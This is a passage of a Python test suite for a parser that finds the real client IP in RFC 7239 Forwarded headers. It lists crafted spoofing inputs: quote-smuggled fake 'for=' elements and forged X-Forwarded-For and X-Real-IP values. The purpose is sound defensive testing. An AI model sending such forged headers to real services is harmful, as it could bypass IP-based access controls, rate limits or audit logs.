        ('for=203.0.113.9;host="a, for=198.51.100.1"', VISITOR),
        ('for=203.0.113.9;host="a, for=198.51.100.1;x="', VISITOR),
        ('for=203.0.113.9;host="a, for=198.51.100.1;x=";proto="https"', VISITOR),
        ('for=203.0.113.9;host="a,b", for=10.0.0.2;host="c,d"', VISITOR),
        (r'for=203.0.113.9;host="a\"b"', VISITOR),
        (r'for=203.0.113.9;host="a\\"', VISITOR),
        (r'for=203.0.113.9;host="\", for=198.51.100.1;x=\""', VISITOR),
        (r'for=203.0.113.9;host="a\"b\"c, d", for=10.0.0.2', VISITOR),
        (r'for=203.0.113.9;host="a\"b", for=10.0.0.2', VISITOR),
        (r'for=198.51.100.1;x=", for=203.0.113.9;host="a\"b"', VISITOR),
        (r'for=198.51.100.1;x=", for=203.0.113.9;host="\\\"b", for=10.0.0.2', VISITOR),
        ('", for=203.0.113.9', VISITOR),
        ('for=", for=203.0.113.9', VISITOR),
        ('for="a, b, for=203.0.113.9', VISITOR),
        ('for="\\", for=203.0.113.9', VISITOR),
        ('for=198.51.100.1;host="x, for=203.0.113.9', VISITOR),
        ('for="198.51.100.1, for="[2001:db8:1::9]"', VISITOR6),
        ('for="198.51.100.1, for=10.0.0.2', "10.0.0.2"),
    )],
    Case("two lines are one list", RFC7239, PROXY, (f"Forwarded: for={LIE}", f"Forwarded: for={VISITOR}"), VISITOR),
    Case("an open quote in the line before", RFC7239, PROXY,
         ('Forwarded: for="', f"Forwarded: for={VISITOR}"), VISITOR),
    Case("small letters", RFC7239, PROXY, (f"forwarded: for={VISITOR}",), VISITOR),
    Case("capitals", RFC7239, PROXY, (f"FORWARDED: for={VISITOR}",), VISITOR),
    Case("X-Forwarded-For beside", RFC7239, PROXY, (f"X-Forwarded-For: {LIE}", f"Forwarded: for={VISITOR}"), VISITOR),
    Case("X-Forwarded-For alone", RFC7239, PROXY, (f"X-Forwarded-For: {LIE}",), PROXY),
    Case("X-Forwarded alone", RFC7239, PROXY, (f"X-Forwarded: for={LIE}",), PROXY),
    Case("X-Real-IP beside", RFC7239, PROXY, (f"X-Real-IP: {LIE}", f"Forwarded: for={VISITOR}"), VISITOR),
    forwarded("a stranger", f"for={VISITOR}", LIE, LIE),
    forwarded("a stranger who names proxies", "for=10.0.0.2, for=10.0.0.1", LIE, LIE),
    forwarded("an IPv6 peer", f"for={VISITOR}", VISITOR, "2001:db8:ffff::1"),
    forwarded("a mapped peer", f"for={VISITOR}", VISITOR, "::ffff:10.0.0.1"),
]  # fmt: skip

CASES: list[Case] = [
    *NOBODY_IS_TRUSTED, *PEERS, *ONE_PROXY, *LINES, *OTHER_HEADERS, *SPELLINGS, *CHAINS, *SOCKETS, *LONG, *ELEMENTS,
    *LISTS_OF_ELEMENTS,
]  # fmt: skip
